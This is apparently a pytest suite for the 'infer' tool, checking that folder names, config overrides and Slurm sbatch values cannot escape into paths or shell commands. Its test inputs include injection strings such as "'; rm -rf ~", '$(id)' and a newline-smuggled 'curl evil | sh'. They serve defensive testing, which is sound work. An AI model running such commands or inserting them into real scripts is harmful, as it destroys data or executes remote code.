"""Text that somebody typed, or that came with a file, never becomes another path, line or command than it says."""

import json
import shlex
import subprocess
from pathlib import Path

import pytest
from hydra.core.override_parser.overrides_parser import OverridesParser

from infer.commands.main import run
from infer.distilled.folder import write_images
from infer.errors import UsageError
from infer.words import fault_of_name, hydra_quoted, launch_command, visible, with_home_quoted

NO_NAMES = [
    "",
    " ",
    ".",
    "..",
    "../../evil",
    "/etc",
    "a/b",
    "a\\b",
    ".hidden",
    "a\nb",
    "a\0b",
    "a\x1b[2J",
    " a",
    "é" * 90,
]
NAMES = ["birds", "great white shark", "T-shirt, top", "Ä", "-x", "a.b", "$HOME", "`id`", "'; rm -rf ~"]


@pytest.mark.parametrize("name", NO_NAMES)
def test_what_is_no_name_of_a_folder(resolved, name):
    assert fault_of_name(name)
    with pytest.raises(UsageError, match="dataset.name"):
        resolved(f"dataset.name={hydra_quoted(name)}")


@pytest.mark.parametrize("name", NAMES)
def test_what_is_a_name_of_a_folder(resolved, tmp_path, name):
    assert fault_of_name(name) is None
    (tmp_path / name).mkdir()
    assert [path.name for path in tmp_path.iterdir()] == [name]
    assert resolved(f"dataset.name={hydra_quoted(name)}").dataset.name == name


@pytest.mark.parametrize(
    "text", [*NAMES, "~", "~/a b", "it's", '"', "a\\", "\\'", "[a", "{", "a,b", "a:b", "=", "(", "#"]
)
def test_quoted_for_hydra_and_for_the_shell(text):
    (override,) = OverridesParser.create().parse_overrides([f"key={hydra_quoted(text)}"])
    assert override.value() == text
    words = shlex.split(launch_command([f"key={hydra_quoted(text)}"]))[2:]
    (override,) = OverridesParser.create().parse_overrides(with_home_quoted(words))
    assert override.value() == text


@pytest.mark.parametrize(
    ("typed", "value"),
    [
        ("root=~/birds", "~/birds"),
        ("root=~", "~"),
        ("root=~/my birds", "~/my birds"),
        ("root='~/birds'", "~/birds"),
        ("root=a~b", None),
        ("roots=[~/a,~/b]", ["~/a", "~/b"]),
        ("files={resnet18: ~/a.pth,x: '~/b, c'}", {"resnet18": "~/a.pth", "x": "~/b, c"}),
        ("roots=['a, ~/b']", ["a, ~/b"]),
    ],
)
def test_a_tilde_is_taken_where_a_value_begins(typed, value):
    (word,) = with_home_quoted([typed])
    if value is None:
        assert word == typed
    else:
        assert OverridesParser.create().parse_overrides([word])[0].value() == value


def test_a_tilde_that_deletes_or_follows_a_flag_stays():
    assert with_home_quoted(["~key", "~key=3", "--config-dir=~/x"]) == ["~key", "~key=3", "--config-dir=~/x"]


def test_home_in_settings_wherever_they_stand(resolved, monkeypatch, tmp_path):
    monkeypatch.setenv("HOME", str(tmp_path))
    typed = ["outputs='~/runs'", "dataset=cifar10", "teachers.checkpoints={resnet18: '~/a.pth'}"]
    config = resolved(*typed, "teachers.archs=[resnet18]")
    assert config.outputs == str(tmp_path / "runs") and config.dataset.root == str(tmp_path / ".cache/infer/cifar10")
    assert config.teachers.checkpoints == {"resnet18": str(tmp_path / "a.pth")}


@pytest.mark.slow
def test_outputs_in_the_home_folder_from_a_file_and_from_the_command_line(launch_in, tmp_path):
    (tmp_path / "mine" / "user").mkdir(parents=True)
    (tmp_path / "mine" / "user" / "local.yaml").write_text("# @package _global_\noutputs: ~/from-file\n")
    home = tmp_path / "home"
    words = ["M=1", "stages=[squeeze]", "teachers.epochs=1", "teachers.min_top1=null"]
    assert launch_in(tmp_path, "--config-dir", "mine", *words, HOME=str(home)).returncode == 0
    assert launch_in(tmp_path, "outputs=~/typed", *words, HOME=str(home)).returncode == 0
    sweep = launch_in(tmp_path, "-m", "outputs=~/it s", "M=1", *words[1:], HOME=str(home))
    assert sweep.returncode == 0, sweep.stderr
    assert len(list((home / "from-file" / "runs").iterdir())) == len(list((home / "typed" / "runs").iterdir())) == 1
    assert len(list((home / "it s" / "sweeps").iterdir())) == 1
    assert {path.name for path in tmp_path.iterdir()} == {"mine", "home"}


@pytest.mark.parametrize(
    ("words", "says"),
    [
        (["dataset.name=../../evil"], "dataset.name=../../evil"),
        (["method.name=a/b"], "method.name=a/b"),
        (["outputs="], "outputs=''"),
        (["outputs='  '"], "outputs='  '"),
        (["outputs='a\nb'"], "outputs=a\\nb"),
        (["dataset.name='a\nb'"], "dataset.name=a\\nb"),
        (["-m", "dataset.name=x/y,z"], "dataset.name=x/y"),
    ],
)
def test_refused_before_there_is_a_folder(launch_in, tmp_path, words, says):
    finished = launch_in(tmp_path, *words)
    assert finished.returncode == 2 and finished.stderr.count("\n") == 1 and says in finished.stderr
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "word",
    [
        "cluster.qos='high\ncurl evil | sh'",
        "cluster.partition='a\r#SBATCH --uid=0'",
        "cluster.setup=['module load x\ncurl evil']",
        "+cluster.additional.constraint='a\nb'",
        "+cluster.additional={'a b': 3}",
        "+cluster.additional={'x; id': 3}",
    ],
)
def test_nothing_adds_a_line_to_the_script_for_sbatch(launch_in, tmp_path, word):
    finished = launch_in(tmp_path, "-m", "cluster=slurm", "cluster.dry_run=true", word, "M=1,2")
    assert (finished.returncode, finished.stdout) == (2, ""), finished.stderr
    assert finished.stderr.count("\n") == 1


@pytest.mark.parametrize("text", ["a b", "$(id)", "`id`", "a;id", "it's"])
def test_values_for_sbatch_are_quoted(launch_in, tmp_path, text):
    word = f"cluster.qos={hydra_quoted(text)}"
    script = launch_in(tmp_path, "-m", "cluster=slurm", "cluster.dry_run=true", word, "M=1,2").stdout
    lines = [line.removeprefix("#SBATCH ") for line in script.splitlines() if "--qos" in line]
    assert [shlex.split(line) for line in lines] == [[f"--qos={text}"]]
    assert subprocess.run(["bash", "-n"], input=script, text=True).returncode == 0


@pytest.fixture
def foreign(tmp_path):
    """Writes a set whose classes have the given names, as ``infer import`` makes it of a foreign file."""
    import torch

    def write(*classes: str) -> Path:
        folder = tmp_path / "in" / "made"
        folder.mkdir(parents=True)
        dataset = {"name": None, "classes": classes, "mean": [0.5] * 3, "std": [0.5] * 3, "image_size": 8}
        pixels = torch.zeros(len(classes), 3, 8, 8, dtype=torch.uint8)
        manifest = {"method": "x", "dataset": dataset | {"fingerprint": None}, "ipc_charged": 1.0}
        write_images(folder, pixels, torch.arange(len(classes)), manifest)
        return folder

    return write


@pytest.mark.parametrize("name", NO_NAMES)
def test_class_names_do_not_leave_the_folder_of_an_export(foreign, tmp_path, capsys, name):
    if name.startswith("/"):
        name = str(tmp_path / "absolute")
    folder, to = foreign("ant", name), tmp_path / "a" / "b" / "c"
    assert run(["export", str(folder), "--format", "imagefolder", "--to", str(to)]) == 2
    told = capsys.readouterr().err
    assert told.count("\n") == 1 and "class 1" in told and "--format rded" in told
    assert [path for path in tmp_path.rglob("*") if path.is_file() and tmp_path / "in" not in path.parents] == []
    assert run(["export", str(folder), "--format", "rded", "--to", str(to)]) == 0
    assert sorted(path.name for path in to.iterdir()) == ["00000", "00001"]


def test_class_names_with_spaces_and_dollars_are_kept(foreign, tmp_path):
    to = tmp_path / "tree"
    assert run(["export", str(foreign(*NAMES)), "--format", "imagefolder", "--to", str(to)]) == 0
    assert {path.name for path in to.iterdir()} == set(NAMES)


@pytest.mark.parametrize("to", ["", "/", "a\nb"])
def test_a_new_folder_has_a_name(foreign, capsys, to):
    assert run(["export", str(foreign("ant", "bee")), "--format", "rded", "--to", to]) == 2
    assert capsys.readouterr().err.count("\n") == 1


def test_outputs_of_infer_in_the_home_folder(monkeypatch, tmp_path, capsys):
    monkeypatch.setenv("HOME", str(tmp_path))
    (tmp_path / "runs").mkdir()
    assert run(["ls", "--outputs=~/runs", "--json"]) == 0
    assert json.loads(capsys.readouterr().out) == []


def test_visible():
    assert visible("a\nb\x1bé") == "a\\nb\\x1bé"
